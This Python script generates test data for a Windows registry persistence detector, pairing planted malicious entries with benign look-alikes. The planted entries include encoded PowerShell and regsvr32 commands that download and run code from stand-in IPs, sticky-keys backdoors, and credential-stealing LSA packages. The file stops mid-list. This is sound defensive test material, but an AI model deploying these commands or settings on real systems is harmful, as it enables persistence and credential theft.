#!/usr/bin/env python3
"""Bootstrap tests/data/planted/planted.tsv from src/kb/kb_locations.def.

One malicious plant per kb location (generic payload chosen by interpretation kind, with
hand-written overrides for the core techniques) plus benign look-alikes. Run from the repo
root; review the diff. Columns are documented in tests/data/planted/README.md.
"""
import base64, re

DEF = 'src/kb/kb_locations.def'
rows = re.findall(r'RH_KB_LOC\((\w+), "([^"]*)", (\w+),\s*"((?:[^"\\]|\\.)*)",\s*"((?:[^"\\]|\\.)*)", (\w+), (\w+),\s*(\w+), ([\w|]+),', open(DEF).read())

def unc(s): return s.replace('\\\\', '\\').replace('\\"', '"')

PS = 'IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')'
ENC = base64.b64encode(PS.encode('utf-16-le')).decode()
CMDS = [
    'powershell.exe -nop -w hidden -enc ' + ENC,
    'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""http://198.51.100.23/p.hta"":close")',
    'C:\\Users\\Public\\svch0st.exe',
    'rundll32.exe C:\\ProgramData\\upd.dat,Start',
    'cmd.exe /c C:\\Users\\bob\\AppData\\Local\\Temp\\x.bat',
    'regsvr32.exe /s /n /u /i:http://203.0.113.9/s.sct scrobj.dll',
]
DLL = 'C:\\Users\\Public\\Libraries\\evil.dll'
EVIL_CLSID = '{DEADBEEF-0000-4000-8000-00000000F00D}'
GUID = '{0B1C2D3E-4F50-4617-8283-94A5B6C7D8E9}'

def inst_comp(c, loc_id):
    m = {'ControlSet00*': 'ControlSet001', '{*}': GUID, 'AutoStartOn*': 'AutoStartOnConnect',
         '*file': 'txtfile', '.*': '.txt', 'CryptSIP*': 'CryptSIPDllGetSignedDataMsg',
         'Catalog_Entries*': 'Catalog_Entries64', 'win*': 'win64',
         '*Handlers': 'DragDropHandlers' if loc_id == 'shellex_other_handlers' else 'ContextMenuHandlers',
         '**': 'Evil'}
    if c in m: return m[c]
    if c == '*':
        if 'ifeo' in loc_id or 'silentprocessexit' in loc_id: return 'notepad.exe'
        if 'office' in loc_id or 'outlook' in loc_id: return '16.0'
        if 'svc' in loc_id or 'network_provider' in loc_id: return 'EvilSvc'
        return 'Evil'
    return c.replace('*', 'x')

def inst_key(pat, loc_id):
    parts = pat.split('\\')
    out = []
    for i, c in enumerate(parts):
        v = inst_comp(c, loc_id)
        if loc_id.startswith('ifeo_filter') and c == '*' and i == len(parts) - 1: v = 'Filter0'
        if loc_id.startswith('office') and c == '*' and i == len(parts) - 1: v = 'Evil.Connect'
        if 'print_processors' in loc_id or 'print_drivers' in loc_id:
            if c == '*' and parts[i-1] == 'Environments': v = 'Windows x64'
            if c == '*' and parts[i-1] == 'Drivers': v = 'Version-3'
        out.append(v)
    return '\\'.join(out)

def inst_value(vp, loc_id):
    if vp == '*': return 'Updater'
    if vp == '(default)': return ''
    return {'OPEN*': 'OPEN', 'Path*': 'Path1', '*DLLPathOverride': 'StemmerDLLPathOverride',
            '*CleanupString': 'CleanupString', 'CORECLR_PROFILER_PATH*': 'CORECLR_PROFILER_PATH_64'}.get(vp, vp)

MULTI = {'bootexecute', 'bootexecutenopnpsync', 'setupexecute', 'setupexecutenopnpsync', 'platformexecute',
         'sm_execute', 'lsa_authentication_packages', 'lsa_security_packages', 'lsa_osconfig_security_packages',
         'lsa_notification_packages', 'lsa_extensions', 'pendingfilerenameoperations', 'excludefromknowndlls',
         'class_coinstallers', 'svchost_groups', 'dhcp_calloutdlls', 'ifeo_verifierdlls', 'ifeo_verifierdlls_wow'}

OVR = {
 'winlogon_shell': ('REG_SZ', 'explorer.exe, C:\\ProgramData\\Microsoft\\shell.exe', 'High', ''),
 'pendingfilerenameoperations': ('REG_MULTI_SZ', '\\??\\C:\\Users\\Public\\Libraries\\evil.dll|!\\??\\C:\\Windows\\System32\\wbem\\wbemcomn.dll', 'High', ''),
 'winlogon_shell_wow': ('REG_SZ', 'explorer.exe,C:\\Users\\Public\\svchost.exe', 'High', ''),
 'winlogon_shell_hkcu': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\shell.exe', 'High', ''),
 'winlogon_userinit': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\svch0st.exe,', 'High', ''),
 'winlogon_userinit_wow': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe, powershell -w hidden -c calc,', 'High', ''),
 'winlogon_userinit_hkcu': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe', 'High', ''),
 'winlogon_vmapplet': ('REG_SZ', 'SystemPropertiesPerformance.exe /pagefile, C:\\ProgramData\\v.exe', 'Medium', ''),
 'ifeo_debugger': ('REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'High', ''),
 'autorunsdisabled_software': ('REG_SZ', CMDS[0], 'Medium', ''),
 'autorunsdisabled_ntuser': ('REG_SZ', CMDS[1], 'Medium', ''),
 'ifeo_debugger_wow': ('REG_SZ', 'C:\\Users\\Public\\dbg.exe', 'High', ''),
 'ifeo_filter_debugger': ('REG_SZ', 'C:\\ProgramData\\f.exe', 'High', ''),
 'ifeo_filter_debugger_wow': ('REG_SZ', 'C:\\ProgramData\\f.exe', 'High', ''),
 'ifeo_globalflag': ('REG_DWORD', '512', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|MonitorProcess|REG_SZ|C:\\Users\\Public\\m.exe ;; val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|ReportingMode|REG_DWORD|1'),
 'ifeo_globalflag_wow': ('REG_DWORD', '512', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|MonitorProcess|REG_SZ|C:\\Users\\Public\\m.exe'),
 'silentprocessexit_monitor': ('REG_SZ', 'C:\\Users\\Public\\m.exe', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|512 ;; val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|ReportingMode|REG_DWORD|1'),
 'silentprocessexit_monitor_wow': ('REG_SZ', 'C:\\Users\\Public\\m.exe', 'Medium', ''),
 'silentprocessexit_reportingmode': ('REG_DWORD', '2', 'Medium', ''),
 'ifeo_verifierdlls': ('REG_SZ', 'C:\\Users\\Public\\v.dll', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|256'),
 'ifeo_verifierdlls_wow': ('REG_SZ', 'C:\\Users\\Public\\v.dll', 'High', ''),
 'com_hkcu_inprocserver32': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\wbem.dll', 'High', 'com|%s|inproc|%%SystemRoot%%\\System32\\oleacc.dll' % GUID),
 'com_hkcu_inprocserver32_wow': ('REG_SZ', 'C:\\Users\\Public\\x86.dll', 'High', 'com|%s|inproc|%%SystemRoot%%\\SysWOW64\\oleacc.dll' % GUID),
 'com_hkcu_localserver32': ('REG_SZ', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval("x")', 'High', ''),
 'com_hkcu_inprochandler32': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\h.dll', 'High', 'com|%s|handler|ole32.dll' % GUID),
 'com_hkcu_treatas': ('REG_SZ', EVIL_CLSID, 'High', 'com|%s|inproc|C:\\Users\\Public\\t.dll' % EVIL_CLSID),
 'com_hkcu_progid_clsid': ('REG_SZ', EVIL_CLSID, 'High', 'progid|Evil|{00024500-0000-0000-C000-000000000046}'),
 'com_hkcu_scriptleturl': ('REG_SZ', 'http://203.0.113.5/x.sct', 'High', ''),
 'com_hkcu_typelib': ('REG_SZ', 'script:http://203.0.113.5/t.sct', 'High', ''),
 'com_hklm_typelib': ('REG_SZ', 'script:C:\\Users\\Public\\t.sct', 'High', ''),
 'com_hkcu_proxystub': ('REG_SZ', EVIL_CLSID, 'High', 'val|USRCLASS|CLSID\\%s\\InprocServer32||REG_SZ|C:\\Users\\bob\\AppData\\Local\\Temp\\ps.dll' % EVIL_CLSID),
 'com_hklm_treatas': ('REG_SZ', EVIL_CLSID, 'Medium', 'com|%s|inproc|C:\\Users\\Public\\t.dll' % EVIL_CLSID),
 'hhctrl_clsid': ('REG_SZ', 'C:\\Users\\Public\\hhctrl.ocx', 'High', ''),
 'user_shell_folders_startup': ('REG_EXPAND_SZ', '%PUBLIC%\\Startup', 'High', ''),
 'shell_folders_startup': ('REG_SZ', '\\\\198.51.100.4\\share\\startup', 'High', ''),
 'user_shell_folders_common_startup': ('REG_EXPAND_SZ', '%ProgramData%\\Evil\\Startup', 'High', ''),
 'shell_folders_common_startup': ('REG_SZ', 'C:\\Users\\Public\\Startup', 'High', ''),
 'runonceex_hklm': ('REG_SZ', 'C:\\Users\\Public\\r.dll|DllMain', 'Medium', ''),
 'runonceex_depend_hklm': ('REG_SZ', 'C:\\ProgramData\\dep.dll', 'Medium', ''),
 'runonceex_hklm_wow': ('REG_SZ', '||C:\\Users\\Public\\r.exe', 'Medium', ''),
 'runonceex_hkcu': ('REG_SZ', '||powershell -enc ' + ENC, 'Medium', ''),
 'lsa_authentication_packages': ('REG_MULTI_SZ', 'msv1_0|mimilib', 'High', ''),
 'lsa_security_packages': ('REG_MULTI_SZ', '""|mimilib', 'High', ''),
 'lsa_osconfig_security_packages': ('REG_MULTI_SZ', 'kerberos|msv1_0|evilssp', 'High', ''),
 'lsa_notification_packages': ('REG_MULTI_SZ', 'scecli|pwfilter', 'High', ''),
 'lsa_extensions': ('REG_MULTI_SZ', 'lsasrv.dll|C:\\ProgramData\\lsaext.dll', 'High', ''),
 'securityproviders': ('REG_SZ', 'credssp.dll, C:\\Users\\Public\\ssp.dll', 'High', ''),
 'bootexecute': ('REG_MULTI_SZ', 'autocheck autochk *|evilnative', 'High', ''),
 'rdpwd_startupprograms': ('REG_SZ', 'rdpclip,C:\\ProgramData\\r.exe', 'High', ''),
 'network_provider_order': ('REG_SZ', 'RDPNP,LanmanWorkstation,webclient,NPPSpy', 'High', ''),
 'network_provider_hworder': ('REG_SZ', 'RDPNP,LanmanWorkstation,webclient,NPPSpy', 'High', ''),
 'sm_subsystems_windows': ('REG_EXPAND_SZ', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=C:\\ProgramData\\evilsrv,5 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16', 'High', ''),
 'knowndlls': ('REG_SZ', 'C:\\Users\\Public\\k.dll', 'Medium', ''),
 'loadappinit_dlls': ('REG_DWORD', '1', 'Medium', ''),
 'requiresignedappinit_dlls': ('REG_DWORD', '0', 'Medium', ''),
 'dsrm_admin_logon_behavior': ('REG_DWORD', '2', 'High', ''),
 'safedllsearchmode': ('REG_DWORD', '0', 'Medium', ''),
 'outlook_loadmacroprovideronboot': ('REG_DWORD', '1', 'Medium', ''),
 'winlogon_specialaccounts_userlist': ('REG_DWORD', '0', 'Medium', ''),
 'taskcache_tree_index': ('REG_DWORD', '0', 'Medium', ''),
 'shellserviceobjects': ('REG_DWORD', '1', 'Medium', 'com|%s|inproc|C:\\Users\\Public\\sso.dll' % GUID),
 'setup_cmdline': ('REG_SZ', 'cmd.exe /c C:\\Users\\Public\\s.bat', 'High', ''),
 'safeboot_alternateshell': ('REG_SZ', 'C:\\ProgramData\\altshell.exe', 'High', ''),
 'safeboot_minimal': ('REG_SZ', 'C:\\ProgramData\\evil.exe', 'Medium', ''),
 'safeboot_network': ('REG_SZ', 'C:\\ProgramData\\evil.exe', 'Medium', ''),
 'inifilemapping_boot_shell': ('REG_SZ', 'USR:Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Medium', ''),
 'winsock_protocol_catalog': ('REG_BINARY', ('C:\\Users\\Public\\lsp.dll'.encode() + b'\0' * 8).hex(), 'Medium', ''),
 'taskcache_tasks_actions': ('REG_BINARY', (b'\x03\x00\x0c\x00\x00\x00' + 'C:\\Users\\Public\\task.exe'.encode('utf-16-le') + b'\0\0').hex(), 'Medium', ''),
 'svc_imagepath': ('REG_EXPAND_SZ', '%ComSpec% /c powershell -nop -w hidden -c "iex(iwr http://203.0.113.7/s)"', 'High', ''),
 'appinit_dlls': ('REG_SZ', 'C:\\ProgramData\\ai.dll', 'High', ''),
 'appinit_dlls_wow': ('REG_SZ', 'C:\\ProgramData\\ai32.dll', 'High', ''),
 'ie_autoconfigurl': ('REG_SZ', 'http://203.0.113.80/proxy.pac', 'Medium', ''),
}

NUMBER_DEFAULTS = {'accessibility_configuration_hkcu': ('REG_SZ', 'osk,evilat', 'Medium', '')}

def plant(r, i):
    loc_id, tech, hive, key, val, interp, check, risk, flags = r
    defaults = ''  # Windows defaults live in src/kb/kb_defaults.def
    key = unc(key); val = unc(val)
    k = inst_key(key, loc_id)
    v = inst_value(val, loc_id)
    ctx = ''
    flags_col = ''
    if loc_id in OVR:
        typ, data, mn, ctx = OVR[loc_id]
    elif loc_id in NUMBER_DEFAULTS:
        typ, data, mn, ctx = NUMBER_DEFAULTS[loc_id]
    else:
        mn = 'Medium'
        if interp == 'CMDLINE':
            typ, data = 'REG_SZ', CMDS[i % len(CMDS)]
        elif interp == 'CMDLIST':
            typ, data = 'REG_SZ', 'C:\\Users\\Public\\svch0st.exe'
        elif interp in ('DLLPATH', 'FOLDER'):
            typ, data = 'REG_SZ', DLL
        elif interp == 'LIST':
            typ = 'REG_MULTI_SZ' if loc_id in MULTI else 'REG_SZ'
            data = DLL
        elif interp == 'CLSID':
            typ, data = 'REG_SZ', EVIL_CLSID
            ctx = 'com|%s|inproc|C:\\Users\\Public\\c.dll' % EVIL_CLSID
        elif interp == 'TEXT':
            typ, data = 'REG_SZ', 'C:\\Users\\Public\\payload.exe'
        elif interp == 'NUMBER':
            typ, data = 'REG_DWORD', '1'
        elif interp == 'STARTUPAPPROVED':
            typ, data = 'REG_BINARY', '0a00000000000000a0d0c1b2c3d4d501'
            v = 'svch0st'
        elif interp == 'BINARY':
            typ, data = 'REG_BINARY', ('C:\\Users\\Public\\b.dll'.encode('utf-16-le')).hex()
        if 'F_NAME' in flags and interp in ('CLSID',):
            v, data = EVIL_CLSID, 'Evil'
        elif 'F_NAME' in flags:
            v = 'C:\\Users\\Public\\named.exe'
            if interp == 'NUMBER': data = '1'
    return ['malicious', loc_id, hive, k, v, typ, data, tech, mn, '', ctx, flags_col, 'planted ' + interp.lower()]

out = ['# Planted-hive suite: one malicious entry per kb location plus benign look-alikes.',
       '# Columns: kind, location_id, hive, key_path, value_name, type, data, technique, min_risk, max_risk, context, flags, note',
       '# See tests/data/planted/README.md for the encoding of data, context and flags.',
       'kind\tlocation_id\thive\tkey_path\tvalue_name\ttype\tdata\ttechnique\tmin_risk\tmax_risk\tcontext\tflags\tnote']
for i, r in enumerate(rows):
    out.append('\t'.join(plant(r, i)))
# hidden-name variant and provenance variants for the core Run key
out.append('\t'.join(['malicious', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Updater', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\upd.exe', 'T1547.001', 'High', '', '', 'name_nul_prefix', 'NUL-prefixed value name (RegHide)']))
out.append('\t'.join(['malicious', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Update\u202Egnp.exe', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\upd.exe', 'T1547.001', 'High', '', '', '', 'RLO in the value name']))
out.append('\t'.join(['malicious', 'run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'Sync', 'REG_SZ', 'C:\\Program Files\\Sync\\sync.exe', 'T1547.001', 'Medium', '', '', 'deleted', 'only in a deleted cell']))
out.append('\t'.join(['malicious', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.008', 'Critical', '', '', '', 'utilman backdoor']))
out.append('\t'.join(['malicious', 'silentprocessexit_reportingmode', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe', 'ReportingMode', 'REG_DWORD', '2', 'T1546.012', 'High', '', '', '', 'LSASS dump on exit']))
out.append('\t'.join(['malicious', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.008', 'Critical', '', '', '', 'sticky keys backdoor']))
out.append('\t'.join(['malicious', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\mmdev.dll', 'T1546.015', 'High', '', 'com|{BCDE0395-E52F-467C-8E3D-C4579291692E}|inproc|%SystemRoot%\\System32\\MMDevApi.dll', '', 'NTUSER Software\\Classes view of a known hijack CLSID']))
# real-hive false positives (docs/real-hive-findings.md): malicious variants that the fixes must
# not hide
W7_CSRSS = '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,12288,512 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=winsrv:ConServerDllInitialization,2 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16'
SM = 'ControlSet001\\Control\\Session Manager'
PSOA = '{00020424-0000-0000-C000-000000000046}'
M = [
 ('setupexecute', 'SYSTEM', SM, 'SetupExecute', 'REG_MULTI_SZ', 'C:\\Users\\Public\\native.exe', 'T1547.001', 'High', '', 'non-empty SetupExecute running a user-writable binary'),
 ('setupexecute', 'SYSTEM', SM, 'SetupExecute', 'REG_MULTI_SZ', '|C:\\ProgramData\\n.exe', 'T1547.001', 'High', '', 'payload after an empty first item'),
 ('windows_load_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows', 'Load', 'REG_SZ', '   C:\\Users\\bob\\AppData\\Local\\Temp\\l.exe', 'T1547.001', 'High', '', 'blank-padded Load payload'),
 ('rdp_tcp_initialprogram', 'SYSTEM', 'ControlSet001\\Control\\Terminal Server\\WinStations\\RDP-Tcp', 'InitialProgram', 'REG_SZ', 'C:\\Users\\Public\\rdp.exe', 'T1547.001', 'High', '', 'RDP InitialProgram in Public'),
 ('com_hkcu_proxystub', 'USRCLASS', 'Interface\\{5B2C1A00-1111-4222-8333-944455556666}\\ProxyStubClsid32', '', 'REG_SZ', '{5B2C1A00-AAAA-4BBB-8CCC-DDDDEEEEFFFF}', 'T1546.015', 'Medium', '', 'dangling proxy/stub CLSID: visible, not High'),
 ('com_hkcu_proxystub', 'NTUSER', 'Software\\Classes\\Interface\\{5B2C1A00-1111-4222-8333-944455556666}\\ProxyStubClsid32', '', 'REG_SZ', EVIL_CLSID, 'T1546.015', 'High', 'val|NTUSER|Software\\Classes\\CLSID\\%s\\InprocServer32||REG_SZ|C:\\Users\\bob\\AppData\\Roaming\\ps.dll' % EVIL_CLSID, 'NTUSER view: proxy/stub CLSID registered per user in AppData'),
 ('com_hkcu_proxystub', 'USRCLASS', 'Interface\\{5B2C1A00-1111-4222-8333-944455556666}\\ProxyStubClsid32', '', 'REG_SZ', EVIL_CLSID, 'T1546.015', 'High', 'com|%s|inproc|C:\\Users\\Public\\mps.dll' % EVIL_CLSID, 'proxy/stub CLSID whose machine server is in Public'),
 ('winsock_autodialdll', 'SYSTEM', 'ControlSet001\\Services\\WinSock2\\Parameters', 'AutodialDLL', 'REG_SZ', 'rasadhlp.dll,C:\\ProgramData\\a.dll', 'T1546', 'Medium', '', 'not the bare default'),
 ('securityproviders', 'SYSTEM', 'ControlSet001\\Control\\SecurityProviders', 'SecurityProviders', 'REG_SZ', 'msapsspc.dll, schannel.dll, digest.dll, msnsspc.dll, C:\\ProgramData\\ssp.dll', 'T1547.005', 'High', '', 'legacy default list plus an SSP'),
 ('sm_subsystems_windows', 'SYSTEM', SM + '\\SubSystems', 'Windows', 'REG_EXPAND_SZ', W7_CSRSS.replace('ServerDll=sxssrv,4', 'ServerDll=sxssrv,4 ServerDll=evilsrv,5'), 'T1547.001', 'High', '', 'Windows 7 csrss string plus a ServerDll'),
 ('svc_failurecommand_msiscsi', 'SYSTEM', 'ControlSet001\\Services\\MSiSCSI', 'FailureCommand', 'REG_SZ', 'C:\\Users\\Public\\customScript.cmd', 'T1574.011', 'High', '', 'MSiSCSI failure script moved to Public'),
 ('network_provider_dll', 'SYSTEM', 'ControlSet001\\Services\\vmhgfs\\NetworkProvider', 'ProviderPath', 'REG_EXPAND_SZ', '%PUBLIC%\\vmhgfs.dll', 'T1556.008', 'High', '', 'vendor provider name in a user-writable folder'),
 ('network_provider_dll', 'SYSTEM', 'ControlSet001\\Services\\NPPSpy\\NetworkProvider', 'ProviderPath', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\NPPSpy.dll', 'T1556.008', 'High', '', 'NPPSpy copied into System32'),
 ('svc_failurecommand', 'SYSTEM', 'ControlSet001\\Services\\NVDisplay.ContainerLocalSystem', 'FailureCommand', 'REG_SZ', 'cmd.exe /C C:\\ProgramData\\NvContainerRecovery.bat', 'T1574.011', 'High', '', 'vendor script name outside the Windows folder'),
 ('svc_failurecommand', 'SYSTEM', 'ControlSet001\\Services\\NVDisplay.ContainerLocalSystem', 'FailureCommand', 'REG_SZ', 'cmd.exe /C %windir%\\NvContainerRecovery.bat & powershell -w hidden -enc ' + ENC, 'T1574.011', 'High', '', 'vendor script chained with an encoded command'),
]
for (lid, hive, k, v, t, d, tech, mn, ctx, note) in M:
    out.append('\t'.join(['malicious', lid, hive, k, v, t, d, tech, mn, '', ctx, '', note]))
B = [
 ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'OneDrive', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', 'Low', '', 'OneDrive per-user Run'),
 ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'com.squirrel.Teams.Teams', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"', 'Medium', '', 'Teams per-user Run'),
 ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Discord', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe', 'Medium', '', 'vendor Run entry under AppData'),
 ('run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'SecurityHealth', 'REG_EXPAND_SZ', '%windir%\\system32\\SecurityHealthSystray.exe', 'Info', '', 'Windows default'),
 ('run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'VMware User Process', 'REG_SZ', '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr', 'Low', '', 'vendor agent in Program Files'),
 ('winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe', 'Info', '', 'default Shell'),
 ('winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'C:\\Windows\\system32\\userinit.exe,', 'Info', '', 'default Userinit'),
 ('winlogon_vmapplet', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'VmApplet', 'REG_SZ', 'SystemPropertiesPerformance.exe /pagefile', 'Info', '', 'default VmApplet'),
 ('-', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\chrome.exe', 'MitigationOptions', 'REG_BINARY', '00000000000000000000000000000000', 'Info', '', 'IFEO MitigationOptions is not a persistence value'),
 ('-', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\msedge.exe', 'FrontEndHeapDebugOptions', 'REG_DWORD', '8', 'Info', '', 'IFEO heap setting'),
 ('ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\taskmgr.exe', 'Debugger', 'REG_SZ', '"C:\\Program Files\\Sysinternals\\procexp64.exe"', 'Low', '', 'Process Explorer replaces Task Manager'),
 ('ifeo_globalflag', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\devapp.exe', 'GlobalFlag', 'REG_DWORD', '0x02000000', 'Low', '', 'page heap debugging flag'),
 ('com_hkcu_inprocserver32', 'USRCLASS', 'CLSID\\{CB3D0F55-BC2C-4C1A-85ED-23ED75B5106B}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.038.0219.0001\\FileSyncShell64.dll', 'Low', '', 'OneDrive per-user COM'),
 ('com_hkcu_localserver32', 'USRCLASS', 'CLSID\\{00425F68-FFC1-445F-8EDF-EF78B84BA1C7}\\LocalServer32', '', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"', 'Medium', '', 'Teams per-user COM'),
 ('com_hkcu_inprocserver32', 'USRCLASS', 'CLSID\\{9E175B8B-F52A-11D8-B9A5-505054503030}\\InprocServer32', '', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\shell32.dll', 'Low', 'com|{9E175B8B-F52A-11D8-B9A5-505054503030}|inproc|%SystemRoot%\\System32\\shell32.dll', 'per-user copy of the machine server'),
 ('bootexecute', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'BootExecute', 'REG_MULTI_SZ', 'autocheck autochk *', 'Info', '', 'default BootExecute'),
 ('lsa_authentication_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Authentication Packages', 'REG_MULTI_SZ', 'msv1_0', 'Info', '', 'default'),
 ('lsa_security_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Security Packages', 'REG_MULTI_SZ', '""', 'Info', '', 'Win10 default'),
 ('lsa_notification_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Notification Packages', 'REG_MULTI_SZ', 'scecli', 'Info', '', 'default'),
 ('winsock_autodialdll', 'SYSTEM', 'ControlSet001\\Services\\WinSock2\\Parameters', 'AutodialDLL', 'REG_SZ', 'C:\\Windows\\System32\\rasadhlp.dll', 'Info', '', 'default'),
 ('safeboot_alternateshell', 'SYSTEM', 'ControlSet001\\Control\\SafeBoot', 'AlternateShell', 'REG_SZ', 'cmd.exe', 'Info', '', 'default'),
 ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\wuauserv', 'ImagePath', 'REG_EXPAND_SZ', '%systemroot%\\system32\\svchost.exe -k netsvcs -p', 'Low', '', 'svchost service'),
 ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\disk', 'ImagePath', 'REG_EXPAND_SZ', 'System32\\drivers\\disk.sys', 'Low', '', 'driver'),
 ('svc_servicedll', 'SYSTEM', 'ControlSet001\\Services\\wuauserv\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\wuaueng.dll', 'Low', '', 'ServiceDll in System32'),
 ('user_shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 'REG_EXPAND_SZ', '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'Info', '', 'default'),
 ('shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Shell Folders', 'Startup', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'Info', '', 'default cache'),
 ('startupapproved_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run', 'OneDrive', 'REG_BINARY', '030000003b4f0a1e2c59d801', 'Info', '', 'disabled OneDrive entry'),
 ('startupapproved_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run', 'Teams', 'REG_BINARY', '020000000000000000000000', 'Low', '', 'enabled Teams entry'),
 ('knowndlls', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\KnownDLLs', 'kernel32', 'REG_SZ', 'kernel32.dll', 'Info', '', 'default'),
 ('time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\NtpClient', 'DllName', 'REG_EXPAND_SZ', '%systemroot%\\system32\\w32time.dll', 'Info', '', 'default'),
 ('print_monitors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Monitors\\Local Port', 'Driver', 'REG_SZ', 'localspl.dll', 'Info', '', 'default'),
 ('aedebug', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AeDebug', 'Debugger', 'REG_SZ', '"C:\\WINDOWS\\system32\\vsjitdebugger.exe" -p %ld -e %ld -j 0x%p', 'Info', '', 'Visual Studio JIT debugger'),
